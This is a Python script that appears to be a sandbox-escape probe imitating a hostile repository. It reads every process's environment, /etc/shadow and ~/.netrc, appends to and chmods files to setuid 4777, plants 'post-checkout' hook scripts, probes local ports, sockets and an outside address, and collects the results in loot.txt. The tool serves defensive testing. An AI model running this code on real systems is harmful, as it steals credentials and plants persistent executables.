"""What a hostile repository's programs try, wherever they get to run. Read as text, never imported.

Its argument is a JSON file beside it: paths of the host to read, to write and to make something in,
addresses at which the host answers. All that it learns it prints and leaves in ``loot.txt``, so
that what leaks comes back out of the sandbox with everything else that is kept.
"""

import json
import os
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path


def learnt(told: dict[str, list[str]]) -> Iterator[str]:
    """Yield the variables of every process that can be seen, and the files that tempt a thief."""
    yield from map("=".join, os.environ.items())
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "mountinfo"):
            with suppress(OSError):
                yield (process / name).read_text("latin-1")
    for path in (*told["read"], "/etc/shadow", os.path.expanduser("~/.netrc")):  # noqa: PTH111
        with suppress(OSError):
            yield Path(path).read_text("latin-1")


def spoil(told: dict[str, list[str]]) -> Iterator[str]:
    """Write to files, make files in folders, plant what runs later; yield what succeeded."""
    for path in told["write"]:
        with suppress(OSError), Path(path).open("ab") as stream:
            stream.write(b"\n# SPOILT\n")
            yield f"wrote {path}"
        with suppress(OSError):
            os.chmod(path, 0o4777)  # noqa: PTH101, S103
            yield f"chmod {path}"
    for folder in told["plant"]:
        for name in ("planted", "post-checkout"):
            place = Path(folder, name)
            with suppress(OSError):
                place.write_text("#!/bin/sh\ntouch SPOILT\n", "ascii")
                yield f"planted {place}"


def call(told: dict[str, list[str]]) -> Iterator[str]:
    """Knock at every address of the host, and at one of the world; yield where somebody answers."""
    for port in told["ports"]:
        for host in ("127.0.0.1", "::ffff:127.0.0.1", "localhost"):
            with suppress(OSError), socket.create_connection((host, int(port)), timeout=1):
                yield f"reached {host}"
    for name in told["sockets"]:
        with suppress(OSError), socket.socket(socket.AF_UNIX) as caller:
            caller.settimeout(1)
            caller.connect(name.replace("@", "\0"))
            yield f"reached {name}"
    with suppress(OSError), socket.create_connection(("192.0.2.1", 80), timeout=0.2):
        yield "reached the world"


def main(place: str) -> None:
    """Do all of it, and say what came of it."""
    told = json.loads(Path(place).read_text("utf-8"))
    # Its end stands nowhere in this text: who finds it knows that all was tried.
    loot = "\n".join((*learnt(told), *spoil(told), *call(told), "ALL-WAS-TRIED".lower()))
    Path("loot.txt").write_text(loot, "utf-8", "replace")
    sys.stdout.write(loot[-4000:] + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
